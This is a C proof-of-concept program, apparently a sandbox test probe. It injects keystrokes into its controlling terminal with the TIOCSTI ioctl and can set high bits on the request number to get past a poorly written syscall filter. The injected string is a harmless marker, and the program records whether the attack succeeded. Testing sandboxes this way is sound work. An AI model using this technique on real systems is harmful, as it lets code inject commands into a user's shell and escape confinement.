// Types into its own terminal as if a person had, which a shell that reads there afterwards would obey. With `high` the request number
// carries bits above 32, which the kernel ignores and a careless filter does not. Arguments: PROOF-FILE plain|high
#include "attack.h"
#include <sys/ioctl.h>
#include <termios.h>

static const char typed[] = "typed by the attacker\n";

// Every byte as it comes: an end-of-file that somebody else types must not end the reading.
static void make_raw(int terminal) {
  struct termios settings;
  if (tcgetattr(terminal, &settings) != 0) refused("tcgetattr");
  cfmakeraw(&settings);
  if (tcsetattr(terminal, TCSANOW, &settings) != 0) refused("tcsetattr");
}

int main(int count, char **words) {
  attempting(count, 2);
  unsigned long request = TIOCSTI;
  if (strcmp(words[2], "high") == 0) request |= 1UL << 32;
  int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (terminal < 0) refused("open terminal");
  make_raw(terminal);
  for (const char *letter = typed; *letter != '\0'; letter++)
    if (syscall(SYS_ioctl, terminal, request, letter) != 0) refused("TIOCSTI");
  alarm(5);
  char line[sizeof typed] = {0};
  size_t length = 0;
  while (length < sizeof typed - 1) {
    char letter;
    if (read(terminal, &letter, 1) != 1) refused("read");
    if (letter != '\004') line[length++] = letter;
  }
  write_proof(words[1], line);
  return 0;
}
